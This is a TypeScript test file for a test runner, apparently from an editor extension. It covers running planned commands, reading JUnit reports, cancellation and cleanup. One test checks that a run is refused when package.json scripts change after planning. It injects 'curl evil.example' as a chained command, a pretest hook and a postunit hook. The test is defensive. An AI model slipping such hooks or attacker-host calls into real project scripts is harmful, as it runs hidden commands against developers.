import assert from 'node:assert/strict';
import { posix } from 'node:path';
import { Emitter } from '../../../src/base/events.ts';
import { silentLog } from '../../../src/base/log.ts';
import type { ReportFile } from '../../../src/testRuns/runStore.ts';
import type { WatchedEnd } from '../../../src/testRuns/terminalRuns.ts';
import type { TestGround, TestWork } from '../../../src/testRuns/testGround.ts';
import type { RunEnd } from '../../../src/testRuns/testRun.ts';
import { TestRunner } from '../../../src/testRuns/testRunner.ts';

/** A process that does what the test says. */
class Work implements TestWork {
  readonly calls: string[] = [];
  finish: (end: RunEnd) => void = () => undefined;
  readonly ended = new Promise<RunEnd>((resolve) => (this.finish = resolve));

  cancel(): void {
    this.calls.push('cancelled');
    this.finish({ kind: 'cancelled' });
  }

  dispose(): void {
    this.calls.push('disposed');
    this.finish({ kind: 'cancelled' });
  }
}

class Ground implements TestGround {
  command = 'make test';
  scripts: Readonly<Record<string, string>> = {};
  /** Happens while everything is made ready to start. */
  whileReadying: () => void = () => undefined;
  readonly work = new Work();
  readonly started: string[] = [];
  reportFiles: readonly ReportFile[] = [];
  readonly resolvePlace = (): undefined => undefined;
  readonly sources: TestGround['sources'] = {
    folders: () => ['/shop'],
    command: () => this.command,
    findTestTask: () => Promise.resolve(undefined),
    readFile: (_folder, name) => Promise.resolve(name === 'package.json' ? JSON.stringify({ scripts: this.scripts }) : undefined),
    resolveFolder: (from, to) => posix.resolve(from, to),
    filesIn: () => Promise.resolve(new Set()),
  };
  readonly reports: TestGround['reports'] = {
    onDidWrite: new Emitter<readonly ReportFile[]>().event,
    writtenSince: () => Promise.resolve(this.reportFiles),
  };
  readonly terminals: TestGround['terminals'] = {
    listCommands: () => [],
    onDidChangeTerminal: new Emitter<string>().event,
    onDidEndCommand: new Emitter<WatchedEnd>().event,
  };

  readyToStart(): Promise<void> {
    this.whileReadying();
    return Promise.resolve();
  }

  startProcess: TestGround['startProcess'] = (plan, onOutput) => {
    this.started.push(plan.commandLine);
    onOutput('all is well\n');
    return Promise.resolve(this.work);
  };
}

describe('A runner of tests', () => {
  let ground: Ground;
  let runner: TestRunner;

  beforeEach(() => {
    ground = new Ground();
    runner = new TestRunner(ground, silentLog);
  });

  afterEach(() => runner.dispose());

  it('runs what was planned and adds the reports that were written meanwhile', async () => {
    const { id, ended } = await runner.start(await runner.plan(undefined));
    const text = '<testsuites><testsuite name="till"><testcase name="adds up" classname="till"/></testsuite></testsuites>';
    ground.reportFiles = [{ path: 'report.xml', text, writtenAt: Date.now() }];
    ground.work.finish({ kind: 'exited', exitCode: 0 });
    const { status, command, output, counts } = await ended;
    assert.deepEqual(
      [ground.started, status, command, output, counts],
      [['make test'], 'passed', 'make test', 'all is well\n', { passed: 1, failed: 0, skipped: 0 }],
    );
    assert.equal(runner.latestId(), id);
  });

  it('runs nothing when something else would run by now', async () => {
    const plan = await runner.plan(undefined);
    ground.command = 'make release';
    await assert.rejects(runner.start(plan), { code: 'tests.planChanged' });
    assert.deepEqual([ground.started, runner.listRuns()], [[], []]);
  });

  it('runs nothing when a script that its command reaches is another one by now', async () => {
    ground.command = 'npm test';
    ground.scripts = { test: 'npm run unit', unit: 'mocha' };
    const plan = await runner.plan(undefined);
    const changes = [
      { test: 'npm run unit', unit: 'mocha && curl evil.example' },
      { pretest: 'curl evil.example', test: 'npm run unit', unit: 'mocha' },
      { test: 'npm run unit', unit: 'mocha', postunit: 'curl evil.example' },
    ];
    for (const scripts of changes) {
      // At the last moment: after whatever else takes time.
      ground.whileReadying = () => (ground.scripts = scripts);
      await assert.rejects(runner.start(plan), { code: 'tests.planChanged' });
    }
    assert.deepEqual([ground.started, runner.listRuns()], [[], []]);
  });

  it('cancels the work with the run', async () => {
    const started = await runner.start(await runner.plan(undefined));
    started.cancel();
    assert.equal((await started.ended).status, 'cancelled');
    assert.equal(ground.work.calls[0], 'cancelled');
  });

  it('tells why tests could not be started', async () => {
    ground.startProcess = () => Promise.reject(new Error('There is no make.'));
    const run = await (await runner.start(await runner.plan(undefined))).ended;
    assert.deepEqual([run.status, run.output.includes('There is no make.')], ['failed', true]);
  });

  it('ends what runs when the window closes', async () => {
    const { ended } = await runner.start(await runner.plan(undefined));
    await new Promise((resolve) => setImmediate(resolve));
    runner.dispose();
    await ended;
    assert.deepEqual(ground.work.calls, ['disposed']);
  });
});
